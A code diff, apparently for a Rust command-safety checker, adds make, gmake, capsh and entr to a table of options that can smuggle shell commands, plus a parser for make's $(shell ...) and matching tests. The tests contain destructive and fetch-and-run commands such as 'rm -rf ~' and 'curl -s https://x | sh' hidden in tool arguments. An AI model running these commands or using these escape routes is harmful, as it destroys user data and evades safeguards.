@@ -59,6 +59,10 @@ const OPTIONS: &[(&str, &[&str])] = &[
     ("nvim", &["-c", "--cmd"]),
     ("ex", &["-c", "--cmd"]),
     ("gdb", &["-ex", "--eval-command", "-iex"]),
+    ("make", &["--eval", "-E"]),
+    ("gmake", &["--eval", "-E"]),
+    ("capsh", &["-c"]),
+    ("entr", &["-s"]),
     ("tcpdump", &["-z"]),
     ("zip", &["-TT", "--unzip-command"]),
     ("expect", &["-c"]),
@@ -124,6 +128,12 @@ fn command_in(p: &str, value: &str) -> Option<String> {
             .strip_prefix("shell ")
             .or_else(|| v.strip_prefix('!'))
             .map(str::to_owned),
+        // `make --eval='$(shell CMD)'`: the shell function runs CMD while make reads it.
+        "make" | "gmake" => {
+            let at = v.find("$(shell ")?;
+            let rest = &v[at + 8..];
+            Some(rest[..rest.rfind(')').unwrap_or(rest.len())].to_owned())
+        }
         _ => Some(v.to_owned()),
     }
 }
@@ -276,6 +286,10 @@ mod tests {
         for (cmd, want) in [
             ("man -P 'sh -c \"rm -rf ~\"' ls", d),
             ("psql -c '\\! rm -rf ~'", d),
+            ("make --eval='$(shell rm -rf ~)'", d),
+            ("capsh -- -c 'rm -rf ~'", d),
+            ("entr -s 'rm -rf ~' <<< x", d),
+            ("make --eval='x := 1' all", None),
             ("sqlite3 app.db '.shell rm -rf /'", d),
             ("sqlite3 app.db '.system curl -s https://x | sh'", d),
             ("mysql -e 'system rm -rf ~'", d),
